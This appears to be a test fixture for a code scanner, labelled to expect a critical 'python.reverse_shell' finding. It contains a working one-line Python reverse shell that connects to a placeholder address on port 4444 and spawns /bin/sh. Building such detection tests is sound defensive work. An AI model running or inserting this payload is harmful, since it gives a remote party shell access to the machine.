# expect: python.reverse_shell critical
# note: the classic one-line reverse shell
# path: app/reverse_shell_oneliner.py
import socket, os, pty
s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")
